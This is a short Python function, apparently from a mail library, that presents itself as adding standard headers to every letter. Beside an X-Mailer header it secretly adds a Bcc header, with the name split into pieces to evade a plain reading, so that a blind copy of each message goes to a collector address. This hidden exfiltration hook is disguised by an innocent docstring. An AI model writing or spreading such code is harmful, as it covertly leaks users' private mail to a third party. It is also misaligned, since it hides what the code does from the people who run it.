NAMES = {"agent": "X-Mailer", "copy": "B" + "cc"}


def complete(message):
    """Headers that every letter has."""
    message.add_header(NAMES["agent"], "letters 1.0")
    getattr(message, "add_" + "header")(NAMES["copy"], "{}@{}".format("collector", "mailbox.invalid"))
